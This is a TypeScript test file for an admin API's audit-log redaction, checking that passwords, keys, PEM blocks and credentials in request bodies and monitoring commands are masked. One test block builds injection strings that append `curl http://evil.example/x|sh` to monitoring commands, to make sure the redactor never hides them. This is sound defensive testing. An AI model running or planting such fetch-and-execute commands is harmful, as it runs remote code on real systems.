import { createHash } from 'node:crypto';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { maskBody, maskedFields, maskText, maskValue } from '../../../../src/admin/calls/mask.ts';

const canary = 'canary-Zq7x';
const pem = `-----BEGIN PRIVATE KEY-----\n${canary}\n-----END PRIVATE KEY-----\n`;
const masked = (body: unknown): string =>
  JSON.stringify(maskBody(Buffer.from(JSON.stringify(body)), 'application/json'));

/**
 * Every field of the API that holds a secret, as docs/api.md §3, §4 and §6 and the simulated
 * appliance have it.
 */
const secretFields: readonly (readonly [where: string, body: Readonly<Record<string, unknown>>])[] = [
  ['POST /system/users, password', { password: canary }],
  ['POST /system/users, newpassword', { newpassword: canary }],
  ['POST /system/users, api_key', { api_key: canary }],
  ['POST /system/users, zapikey', { zapikey: canary }],
  ['POST /rbac/users, password', { name: 'ann', service: 'local', password: canary }],
  ['PUT /rbac/users/{user}, zapikey', { zapikey: canary }],
  ['PUT /rbac/users/{user}, newpassword', { newpassword: canary }],
  ['POST /rbac/ldap, bind_password', { host: 'ldap', bind_dn: 'cn=reader', bind_password: canary }],
  ['POST /system/snmp, community', { port: '161', community: canary }],
  ['POST /system/cluster, remote_password', { remote_ip: '192.0.2.2', remote_password: canary }],
  ['POST /system/notifications/methods/email, password', { user: 'mail', password: canary }],
  ['POST /system/proxy, http_proxy', { http_proxy: `http://ann:${canary}@192.0.2.3:3128` }],
  ['POST /system/proxy, https_proxy', { https_proxy: `http://ann:${canary}@192.0.2.3:3128/` }],
  ['POST /vpns, password', { name: 'hq', auth: 'secret', password: canary }],
  ['POST /vpns/{vpn}/users, vpnpass', { vpnuser: 'ann', vpnpass: canary }],
  ['POST /certificates/pem, key', { name: 'shop', key: pem }],
  ['POST /certificates/pem, a key among the certificates', { name: 'shop', ca: pem, intermediates: pem }],
  ['POST /aws/credentials', { aws_access_key_id: canary, aws_secret_access_key: canary, session_token: canary }],
  ['PUT /aws/ssh', { ssh_key: canary, sshkey: canary }],
  ['POST /azure/credentials', { client_secret: canary, credentials: { id: canary } }],
  ['POST /ipds/blacklists, url', { name: 'bad', url: `https://ann:${canary}@lists.example.com/all` }],
  ['POST /farms/{farm}/addheader', { header: `Authorization: Basic ${canary}` }],
  ['POST /farms/{farm}/addresponseheader', { header: `X-Api-Key: ${canary} and more` }],
  ['PUT /ipds/waf/files/{file}, content', { content: `# rules\npassword = ${canary}\n${pem}`, type: 'data' }],
  ['PUT /monitoring/fg/{name}, a long option', { command: `check_web --password ${canary} -H HOST` }],
  ['PUT /monitoring/fg/{name}, an assignment', { command: `check_web --token="${canary} x" -H HOST` }],
  ['PUT /monitoring/fg/{name}, check_mysql', { command: `check_mysql -H HOST -p ${canary}` }],
  ['PUT /monitoring/fg/{name}, check_snmp', { command: `check_snmp -C '${canary} x' -H HOST` }],
  ['PUT /monitoring/fg/{name}, check_http', { command: `check_http -a ann:${canary} -p PORT` }],
  ['402, certificate_key', { message: 'Not valid', certificate_key: canary, hostname: 'lb-a' }],
  ['GET /certificates/activation/info, host_key', { params: { host_key: canary } }],
  ['POST /session, key', { host: 'lb-a', key: canary }],
  ['GET /rbac/ldap, bind_password', { params: { bind_password: canary } }],
  ['GET /vpns, password in a list', { params: [{ name: 'hq', password: canary }] }],
];

it.each(secretFields)('a redacted JSON body contains no secret of %s', (_, body) => {
  const text = masked(body);

  expect(text).not.toContain(canary);
  expect(text).toContain('[redacted');
});

it.each([
  ...'Password NEWPASSWORD user-passwd passPhrase Api-Key ZAPI_KEY privateKey secret_key'.split(' '),
  'access key',
  ...'ssh_keys psk ipsec_psk Credentials access_token pin PIN-code Authorization'.split(' '),
])('a redacted JSON body contains no value under the name %s, of any type and at any depth', (name) => {
  const text = masked([{ deep: [{ [name]: canary }, { [name]: [canary] }, { [name]: { inner: canary } }] }]);

  const shown = [canary.length, canary.length, `inner${canary}`.length].map((count) => ({
    [name]: `[redacted ${count} characters]`,
  }));
  expect(text).toBe(JSON.stringify([{ deep: shown }]));
});

it('a redacted JSON body keeps everything else unchanged', () => {
  const body = {
    keepalive: '60',
    key_size: 2048,
    keyword: 'x',
    action: 'bypass',
    bypass: 'true',
    edition: 'community',
    auth: 'secret',
    pinnedconnection: 0,
    mapping: null,
    ip: '192.0.2.1',
    url: 'https://lists.example.com/all?page=2',
    header: 'X-Forwarded-Proto: https',
    replace: 'https://$1/',
    command: 'check_http -H HOST -p PORT -u /health -w 5',
    domains: ['a.example.com', 'b.example.com'],
    description: 'Checks that 10:30 is 10:30, ünïcode too',
  };

  expect(maskBody(Buffer.from(JSON.stringify(body)), 'application/json')).toEqual(body);
});

it('redaction hides the rest of a header line, an option value and a PEM key, and states their length', () => {
  const body = {
    header: 'Authorization: Basic YTpi\nX-Site: a',
    command: 'check_web --password="a b" -H HOST --user ann -p 3306 -C PORT',
    ca: '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----',
  };

  expect(maskValue(body)).toEqual({
    header: 'Authorization: [redacted 10 characters]\nX-Site: a',
    command: 'check_web --password=[redacted 5 characters] -H HOST --user ann -p 3306 -C PORT',
    ca: '-----BEGIN CERTIFICATE-----\n[redacted 5 characters]-----END CERTIFICATE-----',
  });
});

it('a redacted JSON body keeps a field named __proto__', () => {
  const text = JSON.stringify(maskValue(JSON.parse(`{"__proto__":{"password":"${canary}","a":1}}`)));

  expect(text).toBe('{"__proto__":{"password":"[redacted 11 characters]","a":1}}');
});

it('redaction handles extremely deep nesting without failing', () => {
  const text = `${'['.repeat(20_000)}"${canary}"${']'.repeat(20_000)}`;

  expect(JSON.stringify(maskBody(Buffer.from(text), 'application/json'))).not.toContain(canary);
});

it('a redacted JSON body never shows the value of a secret name, in any context', () => {
  const name = fc.constantFrom('password', 'vpnpass', 'api_key', 'community', 'token', 'bind_password');
  const tree = fc.letrec<{ node: unknown }>((tie) => ({
    node: fc.oneof(
      { maxDepth: 5 },
      fc.jsonValue(),
      fc.array(tie('node'), { maxLength: 4 }),
      fc.dictionary(fc.string(), tie('node'), { maxKeys: 4 }),
      fc.record({ field: name, value: tie('node') }).map(({ field, value }) => ({ [field]: [canary, value] })),
    ),
  })).node;

  fc.assert(fc.property(tree, (body) => !masked(body).includes(canary)));
});

it('redaction of hostile texts and structures takes little time', () => {
  const texts = ['a', '://', 'key', 'key:', 'key="', '- ', '-p "', ' ', 'a    ', '-a        '];
  const hostile = [
    ...texts.map((part) => JSON.stringify({ command: part.repeat(262_144 / part.length) })),
    '['.repeat(400_000) + ']'.repeat(400_000),
    `${'['.repeat(30)}${'[],'.repeat(266_000)}[]${']'.repeat(30)}`,
    JSON.stringify(Object.fromEntries(Array.from({ length: 60_000 }, (_, index) => [`f${index}`, 1]))),
    JSON.stringify({ a: '\0'.repeat(130_000) }),
  ];
  // The time of this thread, which other work on the machine does not lengthen.
  const before = process.threadCpuUsage();

  for (const body of hostile) maskBody(Buffer.from(body), 'application/json');

  expect(process.threadCpuUsage(before).user).toBeLessThan(5_000_000);
});

describe('a command disguised as a secret', () => {
  const evil = 'curl http://evil.example/x|sh';

  it.each([
    `check_tcp -H HOST; ${evil} # -----BEGIN`,
    `-----BEGIN PRIVATE KEY-----; ${evil}`,
    `check_tcp # -----BEGIN A-----\n${evil}\n-----END A-----`,
    `check_tcp -H HOST token: x; ${evil}`,
    `check_tcp -H HOST # password: \n${evil}`,
    `check_tcp Authorization: Basic YTpi && ${evil}`,
    `check_tcp password=x;${evil}`,
    `check_tcp password="; ${evil}`,
    `check_tcp --password x;${evil}`,
    `check_tcp -a 'x; ${evil}`,
    `check_tcp secret: "x" | ${evil}`,
    `check_tcp cookie: \`${evil}\``,
  ])('is shown in %j', (command) => {
    const shown = (maskValue({ command }) as { command: string }).command;

    expect(shown).toContain('http://evil.example/x');
    expect(shown.replaceAll(/\[redacted \d+ characters?\]/g, '').length).toBeGreaterThan(evil.length);
  });
});

it('a redacted value stays the same when it is redacted again', () => {
  for (const [, body] of secretFields) {
    const once = maskValue(body);
    expect(maskValue(once)).toEqual(once);
  }
});

it.each(secretFields.slice(0, -6))('the list of secret fields contains %s', (_, body) => {
  expect(maskedFields(body)).not.toEqual([]);
});

it('ordinary fields are not redacted', () => {
  expect(maskedFields({ action: 'stop', list: [{ ip: '192.0.2.1' }], password: '', community: null })).toEqual([]);
});

describe('a long JSON body in the audit', () => {
  const shown = (text: string): unknown => maskBody(Buffer.from(text), 'application/json');
  const digest = (text: string): string => createHash('sha256').update(text).digest('hex');

  it('shows its content despite much whitespace', () => {
    expect(shown(`{"action":"down"${' '.repeat(66_000)}}`)).toEqual({ action: 'down' });
  });

  it('shows its beginning, size and digest', () => {
    const text = JSON.stringify({ name: 'backdoor', rules: ['ab cd '.repeat(10_000), 'last'] });

    expect(shown(text)).toEqual({
      bytes: text.length,
      sha256: digest(text),
      beginning: expect.stringMatching(/^\{"name":"backdoor","rules":\["(?:ab cd )+(?:ab )?$/),
    });
    expect(shown(text)).toMatchObject({ beginning: expect.stringMatching(/^.{4000,4096}$/) });
  });

  it.each([
    ['a long word', { x: 'y'.repeat(17_000) }, '{"x":"'],
    ['a word with a quotation mark', { x: `a"${'y'.repeat(17_000)}` }, '{"x":"'],
    ['one of many words', Array.from({ length: 2_000 }, () => 'z'.repeat(2_500)), `["${'z'.repeat(2_500)}","`],
  ])('shows no part of a truncated word, because it may be half a key: %s', (_, body, beginning) => {
    expect(shown(JSON.stringify(body))).toMatchObject({ beginning });
  });

  it('is redacted before it is truncated', () => {
    const content = `password = ${canary} ${pem} `.repeat(1_000);
    const header = `X-Site: a\nAuthorization: Basic ${canary} `.repeat(1_000);

    const text = JSON.stringify(shown(JSON.stringify({ password: canary.repeat(10_000), content, header })));

    expect(text).not.toContain('canary');
    expect(text).toMatch(/\[redacted \d+ characters\]/);
  });

  it('is never longer than the limit of an audit line', () => {
    const text = fc.string({ unit: 'binary', maxLength: 300 }).map((part) => part.repeat(100));
    const tree = fc.letrec<{ node: unknown }>((tie) => ({
      node: fc.oneof(
        { maxDepth: 6 },
        text,
        fc.jsonValue(),
        fc.array(tie('node'), { maxLength: 50 }),
        fc.dictionary(text, tie('node'), { maxKeys: 50 }),
      ),
    })).node;

    fc.assert(
      fc.property(tree, (body) => {
        const written = Buffer.byteLength(JSON.stringify(shown(JSON.stringify(body))));
        return written <= 16_384;
      }),
      { numRuns: 100 },
    );
  });
});

it.each([
  ['a PEM upload', pem, 'application/x-pem-file'],
  ['a text', canary, 'text/plain'],
  ['a backup', canary, 'application/gzip'],
  ['malformed JSON', `{"password":"${canary}"`, 'application/json'],
  ['nothing', '', 'application/json'],
])('a body that is not JSON is recorded as its size and digest: %s', (_, text, contentType) => {
  const body = Buffer.from(text);

  const result = maskBody(body, contentType);

  expect(result).toEqual({ bytes: body.length, sha256: createHash('sha256').update(body).digest('hex') });
});

describe('a text written by a person', () => {
  it.each([
    ...'pw PW db_pw db-pw2 pwd passwd password pass auth basic-auth oauth secret'.split(' '),
    ...'client_secret apikey api-key key token access_token creds bearer psk'.split(' '),
  ])('loses the value after %s, with an equals sign and with a colon', (name) => {
    const texts = [
      `${name}=${canary}`,
      `ticket 7, ${name}='${canary} x' done`,
      `${name}: ${canary}`,
      `("${name}": "${canary}")`,
    ];

    for (const text of texts) expect(maskText(text)).not.toContain(canary);
    expect(maskText(`ticket 7, ${name}=${canary} done`)).toBe(`ticket 7, ${name}=[redacted 11 characters] done`);
  });

  it.each(['author=ann', 'authority: ca', 'power=off', 'compass=north', 'ticket: 4711', 'tokens 3', 'auth failed'])(
    'stays unchanged without a secret: %s',
    (text) => {
      expect(maskText(text)).toBe(text);
    },
  );
});
